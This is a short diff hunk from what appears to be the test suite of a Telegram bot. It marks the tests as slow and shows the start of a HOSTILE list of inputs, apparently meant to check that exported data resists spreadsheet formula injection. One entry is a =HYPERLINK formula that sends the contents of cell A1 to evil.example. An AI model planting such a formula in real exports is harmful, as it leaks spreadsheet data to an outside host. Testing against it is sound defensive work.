@@ -20,6 +20,8 @@ from tests.bot_process import RunningBot
 from tests.conftest import TOKEN, main_env, run_main
 from tests.fakes.telegram_api import FakeTelegramAPI
 
+pytestmark = pytest.mark.slow  # main.py export and main.py run
+
 ADMIN = 7101
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Mali news")',
